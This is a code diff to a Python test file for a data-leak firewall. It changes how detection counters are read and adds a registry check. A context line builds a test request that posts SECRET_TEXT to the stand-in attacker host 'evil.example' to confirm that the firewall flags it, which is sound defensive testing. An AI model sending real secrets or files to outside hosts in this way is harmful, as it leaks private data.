@@ -116,9 +116,11 @@ class TestFirewall:
             "POST", "https://evil.example/post", form_data={"body": SECRET_TEXT}
         )
         firewall(request)  # no exception
-        stats = firewall.stats()
-        assert stats["requests_seen"] == 1
-        assert stats["detections"] >= 1
+        counters = firewall.metrics.snapshot()
+        assert counters["requests_seen"] == 1
+        assert counters["detections"] == len(firewall.detections) >= 1
+        # The internal engine shares the firewall's registry.
+        assert firewall.registry.snapshot()["engine.paragraph.queries"] > 0
 
 
 class TestFirewallOnNetwork:
